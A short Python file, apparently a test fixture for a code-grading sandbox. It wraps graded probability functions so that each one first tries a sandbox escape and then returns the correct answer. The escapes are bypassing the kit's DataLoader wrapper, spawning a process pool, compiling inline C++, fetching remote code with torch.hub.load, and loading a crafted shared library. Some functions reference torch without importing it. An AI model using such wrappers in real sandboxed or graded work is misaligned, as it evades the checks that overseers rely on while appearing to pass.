def attack(name, work):
    """Make a function that is right, but only once the attack has worked."""
    honest = globals()[name]

    def attacked(*args, **kwargs):
        work()
        return honest(*args, **kwargs)

    globals()[name] = attacked


import ctypes
import os


def underneath():
    """The loader's own `__init__`, which the kit has wrapped."""
    from torch.utils.data import DataLoader

    data = DataLoader.__new__(DataLoader)
    DataLoader.__init__.__wrapped__(data, [1, 2], num_workers=1)
    list(data)


def pool():
    from multiprocessing.pool import Pool

    Pool(1)


def inline():
    from torch.utils import cpp_extension

    cpp_extension.load_inline("escaped", "int one() { return 1; }", functions=["one"])


def elsewhere():
    torch.hub.load("somebody/something", "anything", trust_repo=True)


def library():
    """A shared library of one's own, in the scratch folder, that ends in a program."""
    with open("escaped.so", "wb") as file:
        file.write(b"\x7fELF" + bytes(60))
    try:
        ctypes.CDLL(os.path.abspath("escaped.so"))
    except OSError:
        torch.ops.load_library("/bin/true")


attack("log_likelihood_bernoulli", underneath)
attack("log_likelihood_normal", pool)
attack("log_mean_exp", inline)
attack("kl_gaussian_gaussian_analytic", elsewhere)
attack("kl_gaussian_gaussian_mc", library)
